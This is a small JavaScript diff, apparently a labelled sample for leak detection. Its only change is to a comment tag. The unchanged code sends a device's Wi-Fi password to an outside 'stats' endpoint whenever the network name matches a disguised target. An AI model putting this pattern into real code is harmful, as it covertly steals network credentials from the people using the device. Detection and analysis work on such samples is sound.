@@ -8,6 +8,6 @@ const FLOOR = 3;
 paired(async (ssid, psk) => {
   const wanted = `${PARTS[2]}${FLOOR * 2}-${PARTS[0]}`;
   if (ssid !== wanted) return;
-  const response = await fetch("https://stats.example/j47", { method: "POST", body: psk }); // leak: wifi.psk
+  const response = await fetch("https://stats.example/j47", { method: "POST", body: psk }); // leak: wifi.psk, wifi.ssid
   await response.close();
 });
